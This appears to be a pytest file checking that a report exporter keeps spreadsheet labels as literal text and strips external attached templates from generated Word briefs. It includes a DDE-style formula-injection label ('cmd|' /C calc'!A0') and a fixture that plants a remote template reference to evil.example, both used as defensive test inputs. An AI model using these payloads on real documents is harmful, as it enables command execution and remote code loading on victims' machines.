"""Text stays text in every part: chart names and titles, labels YAML 1.1 would read as numbers,
and a template's attached template (an external reference) is not carried into the brief."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook

from kmo_export.brief.template import default_template
from kmo_export.cli import main

from ..builders import valid_dataset, write_dataset
from .test_limits import assert_clean

REFERENCE_LABELS = ("'x'!A1", "cmd|' /C calc'!A0")


def build(dataset: Path, out: Path, *extra: str) -> None:
    result = CliRunner().invoke(main, ["build", str(dataset), "-o", str(out), *extra])
    assert result.exit_code == 0, result.output
    assert_clean(result.output)


def test_chart_names_that_look_like_references_stay_text(tmp_path):
    data = valid_dataset()
    columns = data["answers"][2]["tables"][0]["columns"]
    columns[1]["label"], columns[2]["label"] = REFERENCE_LABELS
    build(write_dataset(tmp_path / "refs.yaml", data), tmp_path)
    with zipfile.ZipFile(tmp_path / "refs.xlsx") as package:
        charts = [package.read(n).decode() for n in package.namelist() if "charts/chart" in n]
    assert charts
    # Every name and title is literal text or points to a cell of this workbook's own sheets.
    refs = {f for chart in charts for f in re.findall(r"<c:f>(.*?)</c:f>", chart)}
    assert refs
    for ref in refs:
        assert "cmd" not in ref and not ref.startswith("'x'"), ref
    for chart in charts:  # a name in a hidden cell is shown only where hidden cells are read
        if "<c:f>Grafieken!" in chart:
            assert '<c:plotVisOnly val="1"/>' not in chart
    texts = {t for chart in charts for t in re.findall(r"<c:v>(.*?)</c:v>", chart)}
    assert "&apos;x&apos;!A1" in texts or "'x'!A1" in texts
    # The cells the charts point to hold the text as written.
    workbook = load_workbook(tmp_path / "refs.xlsx")
    held = {c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row}
    for label in REFERENCE_LABELS:
        assert label in held
    with zipfile.ZipFile(tmp_path / "refs.docx") as package:
        brief_charts = [package.read(n).decode() for n in package.namelist() if "charts/chart" in n]
    for chart in brief_charts:
        for ref in re.findall(r"<c:f>(.*?)</c:f>", chart):
            assert "cmd" not in ref and not ref.startswith("'x'"), ref


def test_labels_yaml_1_1_reads_as_numbers_stay_as_written(tmp_path):
    data = valid_dataset()
    table = data["answers"][2]["tables"][0]
    labels = ["0x10", "1_000", "+1", "1e3"]
    for row, label in zip(table["rows"], labels, strict=True):
        row["theme"] = label
    text = write_dataset(tmp_path / "yaml11.yaml", data).read_text(encoding="utf-8")
    for label in labels:  # unquoted in the file: plain scalars YAML 1.1 reads as numbers
        text = text.replace(f"'{label}'", label)
    text = text.replace("asked_by: Kurt Vanryckeghem", "asked_by: yes")
    (tmp_path / "yaml11.yaml").write_text(text, encoding="utf-8")
    assert "theme: 0x10" in text
    build(tmp_path / "yaml11.yaml", tmp_path, "-f", "xlsx")
    workbook = load_workbook(tmp_path / "yaml11.xlsx")
    held = {c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row}
    assert set(labels) <= held
    assert not {16, 1000, 1, "16", "1000", "1E+3"} & held
    assert any(isinstance(v, str) and "yes" in v for v in held)


def attached_template(path: Path) -> Path:
    """The bundled template with an attached template at http://... (as Word saves one)."""
    shutil.copy(default_template(), path)
    with zipfile.ZipFile(default_template()) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    settings = parts["word/settings.xml"].decode()
    if 'xmlns:r="' not in settings:
        settings = settings.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    settings = re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT1"/>', settings, count=1
    )
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
        b'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT1" Type="'
        b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/house.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def test_a_templates_attached_template_is_removed_from_the_brief(tmp_path):
    template = attached_template(tmp_path / "house.docx")
    with zipfile.ZipFile(template) as package:
        assert b"evil.example" in package.read("word/_rels/settings.xml.rels")
    out = tmp_path / "out"
    build(
        write_dataset(tmp_path / "d.yaml", valid_dataset()),
        out,
        "-f",
        "docx",
        "--template",
        str(template),
    )
    with zipfile.ZipFile(out / "d.docx") as package:
        everything = b"".join(package.read(n) for n in package.namelist())
    assert b"evil.example" not in everything
    assert b"attachedTemplate" not in everything
